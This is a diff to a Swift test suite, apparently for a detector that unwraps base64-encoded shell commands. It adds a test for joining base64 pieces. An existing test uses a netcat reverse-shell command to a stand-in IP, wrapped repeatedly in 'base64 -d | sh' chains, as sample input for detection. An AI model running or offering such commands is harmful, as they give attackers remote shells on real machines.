@@ -50,6 +50,16 @@ import Testing
     #expect(!layers.isEmpty)
   }
 
+  @Test func piecesOfBase64AreJoinedOnce() {
+    let text = String(repeating: "echo YWJjZGVmZ2hp;echo amtsbW5vcHFy\n", count: 4000)
+    let joined = text.withView { Base64Pieces.joined(in: $0) }
+    #expect(!joined.isEmpty)
+    // All pieces, and all but the last.
+    #expect(joined.reduce(0) { $0 + $1.digits.count } <= text.utf8.count * 2)
+    // Words with blanks between are none.
+    #expect("base64 decoding everything blankly".withView { Base64Pieces.joined(in: $0) }.isEmpty)
+  }
+
   @Test func shortWrappingsAreUndoneToTheEnd() {
     var text = "nc -e /bin/sh 198.51.100.9 4242"
     for _ in 0..<8 { text = "echo \(base64(text)) | base64 -d | sh" }
